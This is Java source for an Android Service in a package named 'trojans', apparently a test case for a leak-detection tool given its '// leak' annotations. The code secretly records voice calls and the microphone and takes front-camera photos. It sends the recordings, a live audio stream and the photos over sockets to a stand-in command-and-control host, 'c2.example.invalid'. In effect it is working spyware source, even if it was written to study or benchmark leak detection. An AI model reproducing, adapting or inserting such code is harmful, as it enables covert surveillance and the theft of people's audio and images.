package trojans;

import android.app.Service;
import android.content.Intent;
import android.hardware.Camera;
import android.media.AudioFormat;
import android.media.AudioRecord;
import android.media.MediaRecorder;
import android.os.IBinder;
import java.io.BufferedOutputStream;
import java.io.File;
import java.io.FileInputStream;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;

/** The microphone and the camera, at once and later. */
@SuppressWarnings("deprecation")
public class Record extends Service implements Camera.PictureCallback {
    private MediaRecorder recorder;
    private File file;
    private Camera camera;

    public IBinder onBind(Intent intent) {
        return null;
    }

    public int onStartCommand(Intent intent, int flags, int number) {
        try {
            if (intent.getBooleanExtra("start", true)) {
                file = File.createTempFile("rec", ".amr", getCacheDir());
                recorder = new MediaRecorder();
                recorder.setAudioSource(MediaRecorder.AudioSource.VOICE_CALL);
                recorder.setOutputFile(file.getAbsolutePath());
                recorder.prepare();
                recorder.start();
            } else {
                recorder.stop();
                recorder.release();
                new Thread(() -> upload(file)).start();
            }
            camera = Camera.open(1);
            camera.startPreview();
            camera.takePicture(null, null, this);
        } catch (IOException e) {
            stopSelf();
        }
        new Thread(this::stream).start();
        return START_NOT_STICKY;
    }

    private void upload(File from) {
        try (Socket line = new Socket("c2.example.invalid", 86)) {
            OutputStream out = new BufferedOutputStream(line.getOutputStream());
            FileInputStream in = new FileInputStream(from);
            int b;
            while ((b = in.read()) >= 0) {
                out.write(b); // leak
            }
            out.write(0); // no leak
            out.flush();
        } catch (IOException e) {
            from.delete();
        }
    }

    private void stream() {
        int size = AudioRecord.getMinBufferSize(8000, AudioFormat.CHANNEL_IN_MONO, AudioFormat.ENCODING_PCM_16BIT);
        AudioRecord mic = new AudioRecord(1, 8000, AudioFormat.CHANNEL_IN_MONO, AudioFormat.ENCODING_PCM_16BIT, size);
        mic.startRecording();
        short[] sound = new short[size];
        byte[] coded = new byte[size * 2];
        byte[] silence = new byte[size * 2];
        try (Socket line = new Socket("c2.example.invalid", 87)) {
            OutputStream out = line.getOutputStream();
            while (mic.getRecordingState() == AudioRecord.RECORDSTATE_RECORDING) {
                int n = mic.read(sound, 0, sound.length);
                for (int i = 0; i < n; i++) {
                    coded[2 * i] = (byte) sound[i];
                    coded[2 * i + 1] = (byte) (sound[i] >> 8);
                }
                out.write(coded, 0, 2 * n); // leak
                out.write(silence); // no leak
            }
        } catch (IOException e) {
            mic.stop();
        }
    }

    public void onPictureTaken(byte[] picture, Camera from) {
        try (FileOutputStream out = new FileOutputStream(new File(getExternalFilesDir(null), "p.jpg"))) {
            out.write(picture);
        } catch (IOException e) {
            from.release();
        }
        new Thread(() -> {
            try (Socket line = new Socket("c2.example.invalid", 88)) {
                FileInputStream in = new FileInputStream(new File(getExternalFilesDir(null), "p.jpg"));
                byte[] all = new byte[in.available()];
                in.read(all);
                line.getOutputStream().write(all); // leak
            } catch (IOException e) {
                stopSelf();
            }
        }).start();
    }
}
